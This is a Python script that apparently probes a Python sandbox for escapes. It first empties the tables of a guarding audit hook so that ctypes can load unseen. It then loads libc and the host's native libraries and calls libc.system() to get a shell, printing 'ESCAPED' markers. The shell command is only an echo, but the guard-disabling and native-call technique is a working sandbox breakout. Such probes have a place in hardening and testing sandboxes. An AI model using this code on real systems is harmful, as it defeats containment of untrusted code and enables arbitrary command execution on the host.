"""ctypes: CDLL tricks: load libc by every name, load the server's own native libraries from
its site-packages, find_library (which runs helpers), then libc.system() to get a shell.
"""

import glob
import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402
import ctypes.util  # noqa: E402

wins = []
libc = None
for name in (
    None,
    "libc.so.6",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/aarch64-linux-gnu/libc.so.6",
    "/usr/lib/libc.so.6",
):
    try:
        libc = ctypes.CDLL(name, use_errno=True)
        print(f"loaded libc as {name}")
        break
    except OSError as exc:
        print(f"CDLL({name}): {exc}")
try:
    print("find_library(c):", ctypes.util.find_library("c"))
except Exception as exc:
    print(f"find_library: {type(exc).__name__}: {exc}")
patterns = [f"{p}/lib/python3*/site-packages/*/*.so" for p in {sys.prefix, "/work/main/.venv"}]
patterns.append("/work/main/.venv/lib/python3*/site-packages/*/lib/*.so")
for pattern in patterns:
    for path in sorted(glob.glob(pattern))[:3]:
        if os.path.getsize(path) > 4 << 20:
            continue
        try:
            ctypes.CDLL(path)
            wins.append(f"loaded a host library {path}")
            break
        except OSError as exc:
            print(f"CDLL({path}): {exc}")
if libc is not None:
    sys.stdout.flush()
    status = libc.system(b"echo 'ESCAPED: libc.system ran a shell'")
    print(f"libc.system: {status}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
